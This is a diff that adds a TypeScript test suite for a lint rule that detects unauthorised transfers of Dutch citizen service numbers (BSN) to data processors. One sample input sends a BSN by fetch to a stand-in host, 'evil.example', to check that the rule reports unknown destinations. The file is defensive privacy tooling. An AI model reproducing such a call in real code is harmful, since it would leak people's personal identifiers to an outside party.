@@ -1,0 +1,47 @@
+import * as assert from 'node:assert/strict';
+import { both, brief, run } from './program';
+
+const T = ['no-unauthorised-transfer'] as const;
+
+describe('flow: transfer end to end (fetch)', () => {
+  it('reports a BSN sent to a processor that may not receive it, with and without types', () => {
+    const code = [
+      "const API = 'https://api.leermiddel.example/v1';",
+      'export async function sync(leerling: { bsn: string; naam: string }) {',
+      "  await fetch(`${API}/leerlingen`, { method: 'POST', body: JSON.stringify({ id: leerling.bsn }) });",
+      '}',
+    ].join('\n');
+    const { untyped, typed } = both(code, { rules: [...T] });
+    assert.deepEqual(untyped, ['no-unauthorised-transfer:unauthorisedTransfer:bsn>leermiddelen@JSON.stringify({ id: leerling.bsn })']);
+    assert.deepEqual(typed, untyped);
+  });
+
+  it('does not report what the processor may receive', () => {
+    const code = "export async function f(l: { bsn: string }) { await fetch('https://duo.nl/bron', { method: 'POST', body: JSON.stringify({ bsn: l.bsn }) }); }";
+    assert.deepEqual(both(code, { rules: [...T] }), { untyped: [], typed: [] });
+  });
+
+  it('says what, why and what to do in the FG words, and carries the path', () => {
+    const r = run("export function f(l: { bsn: string }) { const x = l.bsn; return fetch('https://api.leermiddel.example/x', { body: x }); }", { rules: [...T] });
+    assert.equal(r.findings.length, 1);
+    const f = r.findings[0];
+    assert.ok(f);
+    assert.match(f.message, /^Burgerservicenummer \(BSN\) is sent to Uitgeverij Leermiddel, which may not receive it\./);
+    assert.match(f.message, /VWO-2024-017/);
+    assert.match(f.message, /uitvoering van een overeenkomst/);
+    assert.match(f.message, /send the ECK iD instead \(for example with `toEckId\(…\)`\)/);
+    assert.deepEqual(f.path.map((s) => s.kind), ['source', 'step', 'sink']);
+    assert.equal(f.path[0]?.line, 1);
+    assert.match(f.path[0]?.description ?? '', /reads `l\.bsn`/);
+    assert.match(f.path[2]?.description ?? '', /sent by `fetch` to Uitgeverij Leermiddel/);
+  });
+
+  it('reports an unknown host and, only when asked, an unresolved destination', () => {
+    const unknown = "export function f(bsn: string) { return fetch('https://evil.example/x', { body: bsn }); }";
+    assert.deepEqual(brief(run(unknown, { rules: [...T] })), ['no-unauthorised-transfer:unknownDestination:bsn@bsn']);
+    assert.deepEqual(brief(run(unknown, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnknownDestinations: false } } })), []);
+    const unresolved = 'export function f(bsn: string, url: string) { return fetch(url, { body: bsn }); }';
+    assert.deepEqual(brief(run(unresolved, { rules: [...T] })), []);
+    assert.deepEqual(brief(run(unresolved, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnresolvedDestinations: true } } })), ['no-unauthorised-transfer:unresolvedDestination:bsn@bsn']);
+  });
+});
